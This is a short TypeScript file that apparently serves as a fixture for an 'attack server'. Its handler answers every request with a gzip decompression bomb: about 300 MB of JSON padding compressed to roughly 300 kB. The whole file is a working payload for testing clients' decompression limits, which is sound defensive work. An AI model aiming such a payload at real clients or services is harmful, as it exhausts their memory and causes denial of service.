import { createGzip } from 'node:zlib';
import { answerAll } from './attack-server.ts';

/** 300 MB of JSON that take 300 kB on the way. */
answerAll((response) => {
  response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
  const gzip = createGzip({ level: 9 });
  gzip.pipe(response);
  const block = Buffer.alloc(1 << 20, ' ');
  gzip.write('{"items":[');
  for (let at = 0; at < 300; at++) gzip.write(block);
  gzip.end(']}');
});
